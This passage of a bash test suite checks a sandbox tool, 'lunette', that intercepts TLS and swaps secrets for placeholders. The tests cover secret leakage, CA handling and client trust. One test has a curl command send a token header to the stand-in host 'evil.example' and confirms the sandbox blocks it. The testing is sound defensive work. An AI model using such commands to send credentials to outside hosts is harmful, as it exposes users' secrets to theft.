  eventually grep -q looked seen
  "$lunette" ctl --control c.sock secrets >ctl || fail "$(cat ctl said)"
  "$lunette" ctl --control c.sock stats >>ctl
  "$lunette" ctl --control c.sock rules >>ctl
  "$lunette" ctl --control c.sock reload >>ctl 2>&1 || fail "$(cat ctl)"
  rm token
  "$lunette" ctl --control c.sock reload >>ctl 2>&1 && fail "without the token"
  wait
  grep -q '"name":"COMMAND_TOKEN","placeholder":"$LUNETTE_COMMAND_TOKEN_.*"hosts":\["api.example.com"\],"from":"command","age_ms":' ctl || fail "$(cat ctl)"
  grep -q '"kind":"reload","name":"COMMAND_TOKEN","reason":"secret"' events || fail "$(cat events)"
  for value in value-of-file value-of-env value-of-command value-of-policy 'PRIVATE KEY'; do
    grep -a -l -e "$value" -e "$(printf %s "$value" | base64 | cut -c 1-12)" seen said ctl events pcap && fail "$value is there"
  done
  return 0
}
# A server outside, on the loopback, that writes down what it is asked and says it again.
with_server() {
  with_secrets
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout up.key -out up.pem -subj /CN=upstream -days 5 \
    -addext subjectAltName=DNS:host.lunette.internal,DNS:evil.example 2>/dev/null || fail "openssl"
  cat >outside.py <<'EOF'
import http.server, ssl
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("up.pem", "up.key")
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        asked = self.requestline + "\n" + str(self.headers)
        with open("recorded", "a") as file:
            file.write(asked)
        self.send_response(200)
        self.send_header("Content-Length", str(len(asked)))
        self.end_headers()
        self.wfile.write(asked.encode())
    def log_message(self, *_):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
print(server.server_port, flush=True)
server.serve_forever()
EOF
  /usr/bin/python3 outside.py >port &
  background+=($!)
  eventually test -s port
  port=$(cat port)
  cat >head <<EOF
return {
  rules = { "allow@host.lunette.internal", "allow@evil.example" },
  dns = { hosts = { ["evil.example"] = "172.16.0.1" } },
  tls = { intercepted_ports = { $port }, upstream_ca_certs = { "up.pem" } },
  on_secret_violation = "block-and-terminate",
EOF
  { cat head && sed -e 1,2d -e 's/"api.example.com"/"host.lunette.internal"/' p.lua; } >q.lua
  policy=q.lua
}
test_secrets_arrive_and_their_values_are_nowhere_else() {
  with_server
  options=(--events events --pcap pcap -v)
  for name in FILE ENV COMMAND GIVEN; do
    # shellcheck disable=SC2016
    run sh -c 'curl -sS -H "X-Token: $'$name'_TOKEN" https://host.lunette.internal:'"$port"'/$(env | wc -l); env; cat "$SSL_CERT_FILE" events pcap' >>seen 2>said || true
    cat events pcap >>written
  done
  for value in value-of-file value-of-env value-of-command value-of-policy; do
    equal "$(grep -c "^X-Token: $value" recorded)" 1
    grep -a -q "^X-Token: .LUNETTE_" seen || fail "$(cat seen said)"
    grep -a -l -e "$value" -e "$(printf %s "$value" | base64 | cut -c 1-12)" seen said written && fail "$value is there"
  done
  return 0
}
test_a_violation_ends_the_sandbox_with_125() {
  with_server
  # shellcheck disable=SC2016
  status 125 run sh -c 'curl -s -H "X-Token: $FILE_TOKEN" https://evil.example:'"$port"'/; sleep 5; touch alive' 2>err
  grep -q '^lunette: the sandbox is ended: the placeholder of FILE_TOKEN was on its way to evil.example' err || fail "$(cat err)"
  [ ! -e recorded ] || fail "$(cat recorded)"
  [ ! -e alive ] || fail "CMD went on"
}
test_lunette_with_secrets_leaves_no_core_and_shows_no_memory() {
  with_secrets
  run sleep 471107 &
  eventually pgrep -u "$uid" -x -f "sleep 471107" >/dev/null
  pids=$(pgrep -u "$uid" -f "^$lunette run .*471107")
  [ "$(wc -w <<<"$pids")" -ge 3 ] || fail "found $pids, wanted lunette, its keeper and the guest's first process"
  for pid in $(pgrep -u "$uid" -o -f "^$lunette run .*471107"); do
    grep -q '^Max core file size *0 *0' "/proc/$pid/limits" || fail "cores of $pid"
  done
  for pid in $pids; do
    [ "$uid" = 0 ] || ! cat "/proc/$pid/environ" >/dev/null 2>&1 || fail "the environment of $pid can be read"
  done
  pkill -u "$uid" -x -f "sleep 471107"
  wait
}
test_secrets_that_cannot_be_read_start_nothing() {
  with_secrets
  rm token
  unset REAL_TOKEN
  status 125 run touch started 2>err
  grep -q 'p.lua: .*secrets\[1\].from_file: No such file or directory: found "token"' err || fail "$(cat err)"
  grep -q 'secrets\[2\].from_env: .*found "REAL_TOKEN"' err || fail "$(cat err)"
  [ ! -e started ] || fail "CMD ran without its secrets"
}
test_keys_are_logged_for_the_caller_alone() {
  options=(--keylog keys)
  equal "$(attempt read keys 2>err)" EACCES
  equal "$(stat -c %a keys)" 600
  grep -q '^lunette: WARNING: with keys, ' err || fail "$(cat err)"
  touch open && chmod 644 open
  options=(--keylog open)
  run true 2>/dev/null
  equal "$(stat -c %a open)" 600
}
test_the_ca_is_made_shown_and_made_again() {
  status 1 "$lunette" ca 2>err
  grep -q 'there is no CA yet' err || fail "$(cat err)"
  equal "$("$lunette" ca path)" "$XDG_DATA_HOME/lunette/ca.pem"
  "$lunette" ca regenerate >first || fail "status $?"
  equal "$("$lunette" ca | grep SHA)" "$(grep SHA first)"
  equal "$(grep SHA first | sed 's/.* //')" "$(openssl x509 -in data/lunette/ca.pem -noout -fingerprint -sha256 | sed 's/.*=//')"
  "$lunette" ca regenerate >second
  [ "$(cat first)" != "$(cat second)" ] || fail "it is the same"
  "$lunette" ca --json show | /usr/bin/python3 -c 'import json, sys; assert len(json.load(sys.stdin)["sha256"]) == 95'
  chmod 644 data/lunette/ca-key.pem
  status 1 "$lunette" ca 2>err
  grep -q 'has mode 0644; accepted: 0600' err || fail "$(cat err)"
}
# A server inside, whose certificate the interception CA has signed, and clients that know nothing.
test_clients_trust_the_interception_ca() {
  with_secrets
  cd data/lunette || fail "there is no CA"
  {
    openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$OLDPWD/leaf.key" -out leaf.csr -subj /CN=localhost
    openssl x509 -req -in leaf.csr -CA ca.pem -CAkey ca-key.pem -days 2 -out "$OLDPWD/leaf.pem" -extfile <(echo subjectAltName=DNS:localhost)
  } 2>err || fail "$(cat err)"
  cd "$OLDPWD" || fail "no way back"
  cat >server.py <<'EOF'
import http.server, ssl
REFS = b"0123456789012345678901234567890123456789\trefs/heads/main\n"
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("leaf.pem", "leaf.key")
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(REFS)))
        self.end_headers()
        self.wfile.write(REFS)
    def log_message(self, *_):
        pass
class Server(http.server.ThreadingHTTPServer):
    def handle_error(self, *_):
        pass
server = Server(("127.0.0.1", 4433), Handler)
server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
print("ready", flush=True)
server.serve_forever()
EOF
  cat >clients.sh <<'EOF'
rm -f up
/usr/bin/python3 server.py >up &
while [ ! -s up ]; do sleep 0.02; done
at=https://localhost:4433/
try() { # NAME COMMAND...
  timeout 5 "${@:2}" >"out-$1" 2>&1 && echo "$1 trusts" || { echo "$1 does not"; cat "out-$1"; }
}
try curl curl -sS "$at"
try openssl sh -c 'echo | openssl s_client -connect localhost:4433 -verify_hostname localhost | grep "Verification: OK"'
try python /usr/bin/python3 -c "import urllib.request; urllib.request.urlopen('$at')"
try gnutls sh -c 'echo | gnutls-cli --port 4433 localhost'
try node node -e "require('https').get('$at', r => process.exit(0)).on('error', e => { console.log(e); process.exit(1) })"
try wget wget -q -O - "$at"
try git git ls-remote "$at"
[ -s Client.class ] && try java java -Xshare:auto Client "$at"
EOF
  cat >Client.java <<'EOF'
public class Client {
    public static void main(String[] args) throws Exception {
        new java.net.URL(args[0]).openStream().read();
    }
}
EOF
  javac Client.java 2>/dev/null
  check_clients() { # COMMAND...
    "$@" >out 2>err
    for client in curl openssl python gnutls node wget git java; do
      command -v "${client/gnutls/gnutls-cli}" >/dev/null || continue # not here
      [ $client != java ] || [ -s Client.class ] || continue
      grep -q "^$client trusts$" out || fail "$* $client: $(cat out err)"
    done
  }
  check_clients run bash clients.sh
  # Variables that name files of the user's own: these are merged in.
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /dev/null -out own.pem -subj /CN=own -days 2 2>/dev/null
  export SSL_CERT_FILE=$PWD/own.pem CURL_CA_BUNDLE=$PWD/own.pem NODE_EXTRA_CA_CERTS=$PWD/own.pem GIT_SSL_CAINFO=$PWD/own.pem
  check_clients run bash clients.sh
  # shellcheck disable=SC2016
  run sh -c 'cat "$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS"' >merged
  equal "$(grep -c -F "$(sed -n 2p own.pem)" merged)" 2
  unset SSL_CERT_FILE CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO
  # Without any variable: what is in the place of the system's bundles; node has roots of its own.
  sed -i 's/^try node.*/echo node trusts/' clients.sh
  check_clients run env -i PATH="$PATH" HOME="$PWD" bash clients.sh
  # None of that without interception.
  policy=allow-all
  run bash clients.sh >out 2>&1
  ! grep trusts out | grep -v node || fail "$(cat out)"
}

# ---- the runner ----

passed=0 failed=0 skipped=0 number=0
for name in $(declare -F | sed -n 's/^declare -f \(test_.*\)/\1/p'); do
  [[ "$name" == *${1:-}* ]] || continue
  number=$((number + 1))
  output=$(
    cd "$(mktemp -d "$PLACE/$uid-XXXXXX" 2>/dev/null || mktemp -d)" || exit 1
    trap 'kill "${background[@]}" 2>/dev/null' EXIT
    export XDG_DATA_HOME=$PWD/data
    "$name" 2>&1
  )
  if [ $? != 0 ]; then
    failed=$((failed + 1))
    printf 'not ok %d - %s: %s\n' $number "$me" "${name#test_}"
    printf '%s\n' "$output" | sed 's/^/# /'
  elif [[ "$output" == *SKIP\ * ]]; then
    skipped=$((skipped + 1))
    printf 'ok %d - %s: %s # %s\n' $number "$me" "${name#test_}" "$output"
  else
    passed=$((passed + 1))
    printf 'ok %d - %s: %s\n' $number "$me" "${name#test_}"
  fi
done
printf '1..%d\n%d passed, %d failed, %d skipped\n' $number $passed $failed $skipped
